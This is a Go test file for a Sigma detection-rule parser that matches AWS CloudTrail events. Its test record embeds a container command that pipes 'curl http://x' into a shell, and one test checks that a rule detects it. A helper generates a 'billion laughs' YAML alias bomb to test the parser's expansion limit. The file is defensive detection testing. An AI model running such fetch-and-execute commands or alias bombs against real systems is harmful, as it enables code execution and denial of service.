package sigma

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/trailhound/trailhound/engine"
	"github.com/trailhound/trailhound/event"
)

const testRecord = `{"eventVersion":"1.08","eventTime":"2026-10-07T09:15:30Z","eventSource":"iam.amazonaws.com","eventName":"PutUserPolicy",
 "awsRegion":"us-east-1","sourceIPAddress":"10.20.30.40","userAgent":"S3 Browser 11.5.7 https://s3browser.com",
 "userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice","userName":"alice","accessKeyId":"AKIAEXAMPLE"},
 "requestParameters":{"userName":"alice","policyName":"s3","enable":false,"count":7,
   "policyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::<YOUR-BUCKET-NAME>/*\"}]}",
   "containerDefinitions":[{"command":["sh","-c","curl http://x | sh"]},{"command":["sleep"]}],
   "cmd":"aHR0cDovL2V4YW1wbGUuY29t"},
 "responseElements":null,"errorCode":null,"recipientAccountId":"111122223333","tag":"a\\b*c"}`

// rule builds a one-selection rule around a detection body.
func matches(t *testing.T, detection string, opts Options) (bool, error) {
	t.Helper()
	doc := "title: t\nid: 11111111-1111-1111-1111-111111111111\nlogsource:\n  product: aws\n  service: cloudtrail\nlevel: high\ndetection:\n" + detection
	rs, err := Parse("t.yml", []byte(doc), opts)
	if err != nil {
		return false, err
	}
	r := rs[0]
	if !r.Runnable() {
		return false, fmt.Errorf("unsupported: %s", r.Unsupported)
	}
	var p event.Parser
	ev, err := p.Parse([]byte(testRecord))
	if err != nil {
		t.Fatal(err)
	}
	return engine.Eval(r.Cond, ev)
}

func TestMatching(t *testing.T) {
	tests := []struct {
		name, sel string
		want      bool
	}{
		{"exact, case-insensitive", "eventName: putuserpolicy", true},
		{"cased", "eventName|cased: putuserpolicy", false},
		{"value list is OR", "eventName: [CreateUser, PutUserPolicy]", true},
		{"all ANDs the list", "userAgent|contains|all: ['S3 Browser', 's3browser.com']", true},
		{"all fails on one", "userAgent|contains|all: ['S3 Browser', 'nope']", false},
		{"startswith", "eventName|startswith: PutUser", true},
		{"endswith", "eventName|endswith: Policy", true},
		{"wildcard ?", "eventName: Put?serPolicy", true},
		{"escaped star is literal", `tag: 'a\\b\*c'`, true},
		{"escaped star does not glob", `tag: 'a\\b\*'`, false},
		{"null: absent", "missingField: null", true},
		{"null: JSON null", "errorCode: null", true},
		{"null: present value", "eventName: null", false},
		{"boolean as string", "requestParameters.enable: 'false'", true},
		{"number as string", "requestParameters.count: 7", true},
		{"object: its leaves", "requestParameters|contains: '<YOUR-BUCKET-NAME>'", true},
		{"object: its JSON", `requestParameters|contains: '"userName":"alice"'`, true},
		{"object with glob inside", `requestParameters|contains|all: ['"arn:aws:s3:::<YOUR-BUCKET-NAME>/*"', 's3:GetObject']`, true},
		{"contains * is present", "userAgent|contains: '*'", true},
		{"contains * on absent", "nope|contains: '*'", false},
		{"path through arrays", "requestParameters.containerDefinitions.command|contains: curl", true},
		{"re is case-sensitive", "userIdentity.arn|re: 'USER/ALICE'", false},
		{"re|i", "userIdentity.arn|re|i: 'USER/ALICE$'", true},
		{"re unanchored", "userIdentity.arn|re: ':user/'", true},
		{"cidr", "sourceIPAddress|cidr: 10.0.0.0/8", true},
		{"cidr no", "sourceIPAddress|cidr: 192.168.0.0/16", false},
		{"gt", "requestParameters.count|gt: 5", true},
		{"lte", "requestParameters.count|lte: 6", false},
		{"exists true", "userAgent|exists: true", true},
		{"exists false", "userAgent|exists: false", false},
		{"neq", "eventName|neq: CreateUser", true},
		{"neq equal", "eventName|neq: PutUserPolicy", false},
		{"fieldref", "requestParameters.userName|fieldref: userIdentity.userName", true},
		{"fieldref contains", "userIdentity.arn|fieldref|contains: requestParameters.userName", true},
		{"base64", "requestParameters.cmd: aHR0cDovL2V4YW1wbGUuY29t", true},
		{"base64 modifier", "requestParameters.cmd|base64: 'http://example.com'", true},
		{"base64offset contains", "requestParameters.cmd|base64offset|contains: 'example'", true},
		{"windash", "requestParameters.containerDefinitions.command|windash|contains: '-c'", true},
		{"hour", "eventTime|hour: 9", true},
		{"month", "eventTime|month: 11", false},
	}
	for _, tt := range tests {
		got, err := matches(t, "  selection:\n    "+tt.sel+"\n  condition: selection\n", Options{})
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
			continue
		}
		if got != tt.want {
			t.Errorf("%s (%s): %v, want %v", tt.name, tt.sel, got, tt.want)
		}
	}
}

func TestConditions(t *testing.T) {
	det := `  sel_a:
    eventName: PutUserPolicy
  sel_b:
    eventSource: ec2.amazonaws.com
  filter_main_x:
    userIdentity.type: Root
  _hidden:
    eventName: nothing
  keywords:
    - 's3browser'
`
	tests := []struct {
		cond string
		want bool
	}{
		{"sel_a and not sel_b", true},
		{"sel_a and sel_b", false},
		{"sel_a or sel_b", true},
		{"1 of sel_*", true},
		{"all of sel_*", false},
		{"1 of them", true},
		{"not 1 of filter_*", true},
		{"sel_a and not (sel_b or filter_main_x)", true},
		{"keywords", true},
		{"all of them", false},
		{"not _hidden and sel_a", true},
	}
	for _, tt := range tests {
		got, err := matches(t, det+"  condition: "+tt.cond+"\n", Options{})
		if err != nil || got != tt.want {
			t.Errorf("%s: %v %v, want %v", tt.cond, got, err, tt.want)
		}
	}
	// a list of conditions is their OR
	got, err := matches(t, det+"  condition:\n    - sel_b\n    - sel_a\n", Options{})
	if err != nil || !got {
		t.Errorf("condition list: %v %v", got, err)
	}
}

func TestTransforms(t *testing.T) {
	// pySigma's values for base64offset('http://')
	got := strings.Join(transforms["base64offset"]("http://"), ",")
	if got != "aHR0cDovL,h0dHA6Ly,odHRwOi8v" {
		t.Errorf("base64offset: %s", got)
	}
	if w := transforms["windash"]("-c /x"); len(w) != 25 || w[0] != "-c -x" {
		t.Errorf("windash: %d %q", len(w), w[0])
	}
	if u := transforms["utf16le"]("ab"); u[0] != "a\x00b\x00" {
		t.Errorf("utf16le: %q", u)
	}
}

func TestPlaceholders(t *testing.T) {
	det := "  sel:\n    sourceIPAddress|expand: '%ips%'\n  condition: sel\n"
	if _, err := matches(t, det, Options{}); err == nil || !strings.Contains(err.Error(), "placeholder %ips% has no values") {
		t.Errorf("without values: %v", err)
	}
	got, err := matches(t, det, Options{Placeholders: map[string][]string{"ips": {"192.0.2.1", "10.20.30.40"}}})
	if err != nil || !got {
		t.Errorf("with values: %v %v", got, err)
	}
}

func TestErrors(t *testing.T) {
	for _, tt := range []struct{ det, want string }{
		{"  sel:\n    eventName|nosuch: x\n  condition: sel\n", "unknown modifier |nosuch"},
		{"  sel:\n    eventName: x\n  condition: sel and missing\n", `unknown search identifier "missing"`},
		{"  sel:\n    eventName: x\n", "no condition"},
		{"  sel:\n    eventName|re: '('\n  condition: sel\n", "missing closing )"},
		{"  sel:\n    eventName|all: x\n  condition: sel\n", "|all needs more than one value"},
		{"  sel:\n    eventName: x\n  condition: sel | count() > 5\n", "legacy aggregation"},
	} {
		_, err := matches(t, tt.det, Options{})
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%q: %v, want %q", tt.det, err, tt.want)
		}
	}
}

func TestMetadata(t *testing.T) {
	doc := `title: T
id: 22222222-2222-2222-2222-222222222222
level: critical
tags: [attack.persistence, attack.t1098.001, attack.t1136]
logsource: {product: aws, service: cloudtrail}
detection:
  sel: {eventName: CreateUser}
  condition: sel
`
	rs, err := Parse("m.yml", []byte(doc), Options{})
	if err != nil {
		t.Fatal(err)
	}
	r := rs[0]
	if r.Severity != "critical" || r.RiskScore != 99 || len(r.Threat) != 1 || r.Threat[0].Tactic.ID != "TA0003" ||
		len(r.Threat[0].Techniques) != 2 || r.Threat[0].Techniques[0].Subtechniques[0].ID != "T1098.001" {
		t.Errorf("metadata: %s %d %+v", r.Severity, r.RiskScore, r.Threat)
	}
	if tech := r.Threat[0].Techniques; tech[0].Name != "Account Manipulation" || tech[0].Subtechniques[0].Name != "Additional Cloud Credentials" || tech[1].Name != "Create Account" {
		t.Errorf("technique names: %+v", tech)
	}
	rs, _ = Parse("w.yml", []byte(strings.Replace(doc, "service: cloudtrail", "service: guardduty", 1)), Options{})
	if rs[0].Runnable() || !strings.Contains(rs[0].Unsupported, "not AWS CloudTrail") {
		t.Errorf("other logsource: %q", rs[0].Unsupported)
	}
}

// All 57 production CloudTrail rules of the corpus load and run, and 6 of
// the 8 legacy aggregations run as correlations (each with its hidden search
// rule); the other 2 (a near without timeframe, a timeframe without an
// aggregation) and the placeholder rule are listed with reasons.
func TestCorpus(t *testing.T) {
	dir := filepath.Join("..", "..", "shared", "corpus", "sigma-rules")
	if _, err := os.Stat(dir); err != nil {
		t.Skip("../shared/corpus is absent: Sigma corpus test skipped")
	}
	rules, errs := Load([]string{dir}, Options{})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	runnable, legacy, placeholder, corr := 0, 0, 0, 0
	for _, r := range rules {
		switch {
		case r.Correlation != nil && r.Runnable():
			corr++
			if r.Correlation.Legacy == "" || len(r.Warnings) == 0 {
				t.Errorf("%s: correlation without its legacy condition or status warning", r.Name)
			}
		case strings.Contains(r.ID, "/search") && r.Runnable():
			corr++
		case r.Runnable():
			runnable++
		case strings.Contains(r.Unsupported, "legacy aggregation"):
			legacy++
		case strings.Contains(r.Unsupported, "placeholder"):
			placeholder++
		default:
			t.Errorf("%s: unexpected reason %q", r.Name, r.Unsupported)
		}
	}
	if runnable != 57 || legacy != 2 || placeholder != 1 || corr != 12 {
		t.Errorf("%d runnable, %d legacy, %d placeholder, %d correlation parts; want 57, 2, 1, 12", runnable, legacy, placeholder, corr)
	}
	if _, err := engine.Compile(rules); err != nil {
		t.Fatal(err)
	}

}

func FuzzParse(f *testing.F) {
	f.Add("detection:\n  sel:\n    eventName|contains|all: [a, b]\n  condition: sel and not 1 of f*\n  f1: {x: null}\n")
	f.Add("detection:\n  k: [a, 'b*']\n  condition: k or (k and not k)\n")
	f.Add("detection:\n  b: &b {eventSource: x}\n  s: {<<: *b, eventName: &n [a]}\n  t: {eventName: *n}\n  condition: s or t\n")
	f.Add("detection:\n  sel: {eventName: x}\n  condition: " + nestedConds["parentheses"](maxDepth) + "\n")
	f.Add("detection:\n  sel: [[{eventName: [[x]]}]]\n  condition: " + nestedConds["or chain"](maxDepth-1) + "\n")
	f.Fuzz(func(t *testing.T, body string) {
		doc := "title: t\nid: x\nlogsource: {product: aws, service: cloudtrail}\n" + body
		rs, err := Parse("f.yml", []byte(doc), Options{})
		if err != nil || !rs[0].Runnable() {
			return
		}
		var p event.Parser
		ev, _ := p.Parse([]byte(testRecord))
		engine.Eval(rs[0].Cond, ev)
	})
}

func TestCorrelationErrors(t *testing.T) {
	base := "title: C\nid: c\ncorrelation:\n"
	for _, tt := range []struct{ body, want string }{
		{"  type: event_count\n  rules: [a]\n  timespan: 5x\n  condition: {gte: 2}\n", "timespan"},
		{"  type: event_count\n  rules: [a]\n  timespan: 5m\n", "needs a condition"},
		{"  type: value_count\n  rules: [a]\n  timespan: 5m\n  condition: {gte: 2}\n", "condition.field"},
		{"  type: temporal\n  rules: [a]\n  timespan: 5m\n", "at least two rules"},
		{"  type: value_sum\n  rules: [a]\n  timespan: 5m\n", "not supported"},
		{"  type: event_count\n  rules: [a]\n  timespan: -5m\n  condition: {gte: 2}\n", `c.yml:4: correlation "C": timespan "-5m"`},
		{"  type: event_count\n  rules: [a]\n  timespan: 0s\n  condition: {gte: 2}\n", `timespan "0s"`},
		{"  type: event_count\n  rules: [a]\n  timespan: 999999999999d\n  condition: {gte: 2}\n", `timespan "999999999999d"`},
	} {
		_, err := Parse("c.yml", []byte(base+tt.body), Options{})
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%q: %v, want %q", tt.body, err, tt.want)
		}
	}
}

// billionLaughs is a YAML fragment whose aliases expand to 9^9 scalars.
func billionLaughs(key string) string {
	var b strings.Builder
	b.WriteString(key + ":\n  l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n")
	for i := 1; i <= 9; i++ {
		p := fmt.Sprintf("*l%d", i-1)
		fmt.Fprintf(&b, "  l%d: &l%d [%s%s]\n", i, i, strings.Repeat(p+", ", 8), p)
	}
	return b.String()
}

// Anchors, aliases and merge keys are resolved before the detection is
// compiled: an alias is its anchor's value, not the anchor's name.
func TestAnchors(t *testing.T) {
	head := "title: t\nid: 11111111-1111-1111-1111-111111111111\nlogsource: {product: aws, service: cloudtrail}\nlevel: high\n"
	tests := []struct {
		name, doc string
		want      bool
		err       string
	}{
		{"alias of a value list", head + "x-names: &names [CreateUser, PutUserPolicy]\ndetection:\n  selection:\n    eventName: *names\n  condition: selection\n", true, ""},
		{"alias of a list that does not hold the value", head + "x-names: &names [CreateUser]\ndetection:\n  selection:\n    eventName: *names\n  condition: selection\n", false, ""},
		{"merge key", head + "detection:\n  base: &base\n    eventSource: iam.amazonaws.com\n  selection:\n    <<: *base\n    eventName: PutUserPolicy\n  condition: selection\n", true, ""},
		{"merged field that does not match", head + "detection:\n  base: &base\n    eventSource: s3.amazonaws.com\n  selection:\n    <<: *base\n    eventName: PutUserPolicy\n  condition: selection\n", false, ""},
		{"billion laughs", head + billionLaughs("x-lol") + "detection:\n  selection:\n    eventName: x\n  condition: selection\n", false, "laughs.yml: line 6: YAML aliases expand to more than 100000 nodes"},
	}
	var p event.Parser
	ev, err := p.Parse([]byte(testRecord))
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range tests {
		start := time.Now()
		rs, err := Parse("laughs.yml", []byte(tt.doc), Options{})
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) || time.Since(start) > 2*time.Second {
				t.Errorf("%s: %v after %s, want %q", tt.name, err, time.Since(start), tt.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
			continue
		}
		if got, err := engine.Eval(rs[0].Cond, ev); got != tt.want || err != nil {
			t.Errorf("%s: match %v (%v), want %v", tt.name, got, err, tt.want)
		}
	}
}

// `note`, a custom attribute, carries the rule's investigation guide (as the
// Elastic key of the same name does).
func TestNoteIsTheGuide(t *testing.T) {
	doc := "title: t\nid: n1\nlevel: low\nlogsource: {product: aws, service: cloudtrail}\n" +
		"detection: {sel: {eventName: X}, condition: sel}\nnote: |\n  ## Triage\n\n  Look.\n"
	rs, err := Parse("n.yml", []byte(doc), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rs[0].Note != "## Triage\n\nLook." {
		t.Errorf("note = %q", rs[0].Note)
	}
}
